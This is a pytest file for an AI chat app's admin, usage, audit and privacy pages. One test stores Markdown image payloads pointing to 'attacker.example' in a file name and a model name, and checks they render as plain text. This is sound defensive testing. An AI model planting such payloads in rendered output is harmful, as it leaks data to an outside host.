"""The admin console, usage page and "Who looked" page, driven as a browser would (AppTest):
an admin finds a user's conversation, opens it with a reason, sees what fed the answer
and what it cost; the user sees that visit. Pages refuse anyone else."""

from __future__ import annotations

import contextlib
import io
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from parley.app_pages.rendering import plain_label
from parley.app_pages.state import UiState
from parley.cli.main import main as cli_main
from parley.fakes.anthropic_server import Cited, FakeAnthropic, Reply
from tests.app_pages.support import add_user, app, log_in, page_text
from tests.app_pages.test_document_pages import POLICY, upload

ROOT_DIR = Path(__file__).resolve().parents[2]
CONSOLE = "parley/app_pages/admin_console.py"
USAGE = "parley/app_pages/admin_usage.py"
PRIVACY = "parley/app_pages/privacy.py"
BATCHES = "parley/app_pages/admin_batches.py"


def alice_asks(claude_env: FakeAnthropic) -> AppTest:
    add_user("alice", "alice-password")
    claude_env.enqueue(Reply(text="The harbour opens at nine."))
    at = app()
    log_in(at, "alice", "alice-password")
    at.chat_input[0].set_value("When does the harbour open?").run()
    assert "The harbour opens at nine." in page_text(at)
    return at


def test_an_admin_opens_a_conversation_with_a_reason_and_the_user_sees_it(
    claude_env: FakeAnthropic,
) -> None:
    alice = alice_asks(claude_env)
    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page(CONSOLE).run()
    assert not at.exception and at.title[0].value == "Admin console"
    at.selectbox[0].set_value("alice").run()  # the user filter
    at.button[0].click().run()  # Find
    assert not at.exception
    assert "alice will see that you opened this conversation" in at.warning[0].value
    before = page_text(at) + "".join(str(s.options) for s in at.selectbox)
    assert "harbour" not in before.lower()  # not the answer, the question, nor the title
    reason = next(t for t in at.text_input if t.label == "Reason")
    reason.input("Too short")
    next(b for b in at.button if b.label == "Open with this reason").click().run()
    assert "at least 10 characters" in page_text(at)
    reason = next(t for t in at.text_input if t.label == "Reason")
    reason.input("Support ticket 4411: a wrong opening time")
    next(b for b in at.button if b.label == "Open with this reason").click().run()
    assert not at.exception
    text = page_text(at)
    assert "The harbour opens at nine." in text and "When does the harbour open?" in text
    assert any("tokens · $" in c.value for c in at.caption)  # what the answer cost
    assert any(e.label == "What went into the prompt" for e in at.expander)

    alice.switch_page(PRIVACY).run()
    seen = page_text(alice).replace("\\", "")  # shown escaped: plain text, never markdown
    assert "root opened your conversation" in seen
    assert "Support ticket 4411: a wrong opening time" in seen
    alice.switch_page("parley/app_pages/chat.py").run()
    next(b for b in alice.button if "harbour" in b.label.lower()).click().run()
    assert any("root opened this conversation" in i.value for i in alice.info)
    assert any("Support ticket 4411" in i.value for i in alice.info)


def audit_table(at: AppTest) -> Any:
    return next(d.value for d in at.dataframe if "kind" in d.value.columns)


def test_the_audit_tab_shows_a_users_history_and_verifies(claude_env: FakeAnthropic) -> None:
    alice_asks(claude_env)
    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page(CONSOLE).run()
    whose = next(s for s in at.selectbox if s.label == "Whose history")
    whose.set_value("alice").run()
    assert not at.exception
    shown = audit_table(at)
    assert set(shown["actor"]) <= {"alice", "(operator)"} and "answer" in set(shown["kind"])
    assert any("No checkpoint taken yet" in c.value for c in at.caption)
    next(b for b in at.button if b.label == "Verify the chain").click().run()
    assert any("The audit trail is intact" in s.value for s in at.success)
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        assert cli_main(["audit", "checkpoint"]) == 0
    assert printed.getvalue().startswith("parley-audit-checkpoint v1 ")
    at.run()
    assert any(c.value.startswith("Last checkpoint: ") for c in at.caption)
    next(b for b in at.button if b.label == "Prepare export (goes on record)").click().run()
    assert not at.exception
    at.run()
    assert "audit_exported" in set(audit_table(at)["kind"])  # the export, on record


def test_usage_page_charts_and_saves_a_quota(claude_env: FakeAnthropic) -> None:
    alice_asks(claude_env)
    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page(USAGE).run()
    assert not at.exception and at.title[0].value == "Usage and quotas"
    assert [m.label for m in at.metric] == ["Cost", "Calls", "Tokens"]
    at.selectbox(key="quota-user").set_value("alice").run()
    next(c for c in at.checkbox if c.label == "Use the defaults").uncheck()
    next(n for n in at.number_input if n.label.startswith("Messages a day")).set_value(3)
    next(b for b in at.button if b.label == "Save quotas").click().run()  # the form, at once
    assert any("Quotas saved for alice" in s.value for s in at.success)
    at.run()
    assert "in force: 3 messages" in page_text(at)


ADMIN_PAGES = [
    CONSOLE,
    USAGE,
    "parley/app_pages/admin_users.py",
    "parley/app_pages/admin_groups.py",
    "parley/app_pages/strategy_lab.py",
    BATCHES,
]


@pytest.mark.parametrize("page", ADMIN_PAGES)
def test_admin_pages_refuse_a_user(claude_env: FakeAnthropic, page: str) -> None:
    """Not offered to a user, and the page itself refuses when run by its path."""
    alice = alice_asks(claude_env)
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        alice.switch_page(page)
    login = alice.session_state["parley_ui"].login
    direct = AppTest.from_file(str(ROOT_DIR / page), default_timeout=30)
    direct.session_state["parley_ui"] = UiState(login=login)
    direct.run()
    assert not direct.exception
    assert "Only administrators" in page_text(direct)
    assert "harbour" not in page_text(direct)


def test_the_users_page_erases_a_user_once_the_name_is_typed(claude_env: FakeAnthropic) -> None:
    alice_asks(claude_env)
    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page("parley/app_pages/admin_users.py").run()
    at.selectbox(key="manage-user").set_value("alice").run()
    erase = next(b for b in at.button if b.label == "Erase for good")
    assert erase.disabled
    at.text_input(key="erase-confirm").input("alice").run()
    next(b for b in at.button if b.label == "Erase for good").click().run()
    assert any("Erased alice: 1 conversation," in s.value for s in at.success)
    at.run()
    assert "alice" not in at.selectbox(key="manage-user").options


def test_stored_names_show_in_the_console_as_text(claude_env: FakeAnthropic) -> None:
    """A file name and a model name are stored as they came: the console's table and
    captions, which Streamlit renders as Markdown, show them as their characters."""
    name = "![x](https://attacker.example/?d=secret) notes.md"
    model = "claude-x ![m](https://attacker.example/?d=model)"
    add_user("alice", "alice-password")
    alice = app()
    log_in(alice, "alice", "alice-password")
    upload(alice, (name, POLICY))
    claude_env.enqueue(
        Reply(segments=["Refunds take ", Cited("30 days", source=0), "."], model=model)
    )
    alice.switch_page("parley/app_pages/chat.py").run()
    alice.chat_input[0].set_value("How long do refunds take?").run()
    assert not alice.exception
    under_the_answer = [c.value for c in alice.chat_message[1].caption]
    assert any(plain_label(model) in line for line in under_the_answer), under_the_answer

    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page(CONSOLE).run()
    at.selectbox[0].set_value("alice").run()
    at.button[0].click().run()  # Find
    next(t for t in at.text_input if t.label == "Reason").input("Support ticket 4412: names")
    next(b for b in at.button if b.label == "Open with this reason").click().run()
    assert not at.exception
    (table,) = [t.value for t in at.table]  # what went into the prompt
    assert list(table["document"]) == [plain_label(name)]
    assert any(plain_label(model) in c.value for c in at.caption)
    shown = [*table["document"], *table["allowed as"], *(c.value for c in at.caption)]
    assert not [s for s in shown if "![" in str(s)]


def test_a_user_added_on_the_users_page_is_listed_at_once_and_never_signed_in() -> None:
    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page("parley/app_pages/admin_users.py").run()
    form = {t.label: t for t in at.text_input}
    form["User name"].input("carol")
    form["Initial password"].input("carol-password")
    next(b for b in at.button if b.label == "Add user").click().run()
    assert not at.exception
    assert "Added carol." in [s.value for s in at.success]
    table = at.dataframe[0].value
    assert "carol" in table["name"].tolist()  # listed in the same page, not after a reload
    signed_in = dict(zip(table["name"], table["last sign-in"], strict=True))
    assert signed_in["carol"] == "never"  # not "None"
    assert signed_in["root"].endswith(" UTC")
    assert "carol" in at.selectbox(key="manage-user").options


def test_usage_of_a_model_that_costs_nothing_is_charted_in_tokens(
    claude_env: FakeAnthropic, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(
        "PARLEY_PRICES", '{"claude": {"input": 0, "output": 0, "cache_write": 0, "cache_read": 0}}'
    )
    alice_asks(claude_env)
    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page(USAGE).run()
    assert not at.exception
    assert "the charts show tokens" in page_text(at)
    assert "Tokens per day, by user" in [h.value for h in at.subheader]


def test_a_user_without_a_token_limit_is_shown_as_such(
    claude_env: FakeAnthropic, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PARLEY_QUOTA_TOKENS_PER_DAY", "0")  # 0: no limit
    monkeypatch.setenv("PARLEY_QUOTA_MESSAGES_PER_DAY", "1")
    alice_asks(claude_env)
    add_user("root", "root-password", admin=True)
    at = app()
    log_in(at, "root", "root-password")
    at.switch_page(USAGE).run()
    at.selectbox(key="quota-user").set_value("alice").run()
    assert not at.exception
    assert "in force: 1 message, no limit on tokens a day." in page_text(at)


def test_an_admin_submits_a_batch_job_and_follows_it_to_the_end(
    claude_env: FakeAnthropic,
) -> None:
    """Document summaries through the fake server's batch endpoints, from the page."""
    add_user("alice", "alice-password")
    at = app()
    log_in(at, "alice", "alice-password")
    upload(at, ("policy.md", POLICY))
    add_user("root", "root-password", admin=True)
    admin = app()
    log_in(admin, "root", "root-password")
    admin.switch_page(BATCHES).run()
    assert not admin.exception and admin.title[0].value == "Batch jobs"
    assert "No batch jobs yet." in page_text(admin)
    claude_env.enqueue(Reply(text="Refunds are paid by bank transfer within 30 days."))
    admin.selectbox[0].set_value("documents")
    next(b for b in admin.button if b.label == "Submit").click().run()
    assert not admin.exception
    assert any(plain_label("Job 1 submitted: 1 item(s).") in s.value for s in admin.success)
    assert "Job 1 · documents · running" in page_text(admin)
    for _ in range(2):  # in progress at the first poll, ended at the second
        next(b for b in admin.button if b.label == "Check now").click().run()
    assert not admin.exception
    assert "Job 1 · documents · done" in page_text(admin)
    (bar,) = admin.get("progress")
    assert (bar.proto.value, bar.proto.text) == (100, plain_label("1 of 1: 1 done"))
    # Nothing is left to do: the page says so, and makes no job.
    next(b for b in admin.button if b.label == "Submit").click().run()
    assert any(plain_label("Nothing needs documents now") in i.value for i in admin.info)
    at.switch_page("parley/app_pages/documents.py").run()
    table = at.dataframe[0].value
    assert list(table["summary"]) == ["Refunds are paid by bank transfer within 30 days."]
